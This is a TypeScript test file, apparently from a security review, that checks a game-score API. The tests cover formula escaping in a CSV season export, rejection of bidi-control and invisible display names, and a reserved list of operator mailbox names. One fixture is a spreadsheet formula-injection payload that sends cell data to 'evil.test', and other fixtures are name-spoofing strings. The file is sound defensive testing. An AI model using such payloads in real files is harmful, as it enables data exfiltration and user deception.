/**
 * Findings 15, 16 and 18 of the security review: formulas in the season export, reordered or invisible names, addresses of the
 * operator.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { confirmSession, registerUser } from '../../support/mail/mail.ts';
import { startServer, type TestServer } from '../../support/server.ts';

let server: TestServer;
let scores = '';

beforeAll(async () => {
  server = await startServer({ vars: { REGISTRATION: 'open' } });
  scores = (await server.call('POST', '/v1/iam/tokens', { name: 'game', scopes: ['scores:write'] })).body.token;
});
afterAll(() => server[Symbol.asyncDispose]());

const addScore = (user_id: string, points: number, user_name: string) =>
  server.call('POST', '/v1/scores', { user_id, points, user_name }, scores);
const register = (name: string, displayName: string) => {
  const request = { email: `${name}@example.test`, password: 'correct horse battery', name: displayName };
  return server.call('POST', '/v1/auth/register', request, null);
};

describe('the export of a season', () => {
  it('has no cell that a spreadsheet reads as a formula, and its numbers stay numbers', async () => {
    const formula = '=HYPERLINK("http://evil.test?x="&A1)';
    const players = [
      ['formula', formula],
      ['plus', '+1'],
      ['minus', '-1'],
      ['at', '@SUM(A1)'],
      ['wide', '＝1'],
      ['quoted', "'tis"],
      ['plain', 'a=b'],
      ['@id', 'Ada'],
    ] as const;
    for (const [index, [id, name]] of players.entries())
      expect((await addScore(id, 100 - index, name)).status).toBe(200);
    const { body: season } = await server.call('GET', '/v1/scores');
    const { body: csv } = await server.call('GET', `/v1/seasons/${season.season}/export`);
    expect(csv.split('\r\n')).toEqual([
      'rank,user_id,user_name,score',
      `1,"formula","'=HYPERLINK(""http://evil.test?x=""&A1)",100`,
      `2,"plus","'+1",99`,
      `3,"minus","'-1",98`,
      `4,"at","'@SUM(A1)",97`,
      `5,"wide","'＝1",96`,
      `6,"quoted","''tis",95`,
      '7,"plain","a=b",94',
      `8,"'@id","Ada",93`,
      '',
    ]);
    // Only the export may change the text of the name. Other reads return it unchanged.
    expect((await server.call('GET', '/v1/scores/formula')).body.user_info.user_name).toBe(formula);
  });
});

const REFUSED = ['\u202eevil', 'a\u2066b', 'a\u200fb', '\u200b\u200b', '\u3164', '\u2800', '\u00ad'];

describe('a display name with bidi controls or without a visible character', () => {
  it.each(REFUSED)('is refused for a player: %j', async (name) => {
    const { status, body } = await addScore('shown', 1, name);
    expect([status, body.errors?.[0]?.path]).toEqual([400, 'user_name']);
    const batch = { updates: [{ user_id: 'shown', points: 1, user_name: name }] };
    const { body: batched } = await server.call('POST', '/v1/scores/batch', batch, scores);
    expect(batched.results[0]).toMatchObject({ status: 400, errors: [{ path: 'user_name' }] });
  });

  it('is refused for an account, at registration and later', async () => {
    const { token } = await registerUser(server, 'renamed');
    for (const name of REFUSED) {
      const registered = await register('deceiver', name);
      expect([name, registered.status, registered.body.errors?.[0]?.path]).toEqual([name, 400, 'name']);
      const renamed = await server.call('PATCH', '/v1/me', { name }, token);
      expect([name, renamed.status, renamed.body.errors?.[0]?.path]).toEqual([name, 400, 'name']);
    }
    expect((await server.call('GET', '/v1/me', undefined, token)).body.name).not.toMatch(/\p{Bidi_Control}/u);
  });

  it('is refused for the sender of a message, and kept for a recipient and in a subject', async () => {
    const { token } = await registerUser(server, 'sender');
    const send = (from: string, to: string) =>
      server.call(
        'POST',
        '/v1/messages',
        {
          from: { name: from, email: 'sender@example.test' },
          to: [{ name: to, email: 'a@third.test' }],
          subject: 'Re: \u202eevil',
          body: 'x',
        },
        token,
      );
    const refused = await send('\u202eevil', 'A');
    expect([refused.status, refused.body.errors?.[0]?.path]).toEqual([400, 'from.name']);
    expect((await send('Sender', '\u200fA')).status).toBe(202);
    expect((await send('', 'A')).status).toBe(202);
  });
});

it.each(['Ada', 'دانش\u200cآموز', '👩\u200d🚀', 'שלום', '  a', '.'])(
  'the display name %j is accepted',
  async (name) => {
    const { status, body } = await addScore('good', 0, name);
    expect([status, body.user_info?.user_name]).toEqual([200, name]);
  },
);

describe('an address of the operator', () => {
  const names =
    'admin administrator webmaster hostmaster postmaster ssladmin ssl-admin sysadmin info support billing is it';
  const more =
    'administrador daemon webmaster- post.master noc ftp helpdesk bounce abuse security sales marketing news www hr ceo pay-ments';
  const last = 'usenet uucp p.o.s.t-master_ root no-reply mailer-daemon';

  it.each([names, more, last].flatMap((line) => line.split(' ')))('cannot be registered: %s', async (name) => {
    const { status, body } = await register(name, 'x');
    expect([status, body.code]).toEqual([403, 'address_reserved']);
  });

  it('cannot be added to an account', async () => {
    const { token } = await registerUser(server, 'collector');
    await confirmSession(server, token);
    const { status, body } = await server.call('POST', '/v1/me/addresses', { email: 'ssl.admin@example.test' }, token);
    expect([status, body.code]).toEqual([403, 'address_reserved']);
  });

  it.each(['admins', 'information', 'adm.in.istrator2', 'itsme', 'newsie'])('is not %s', async (name) => {
    expect((await register(name, 'x')).status).toBe(201);
  });
});
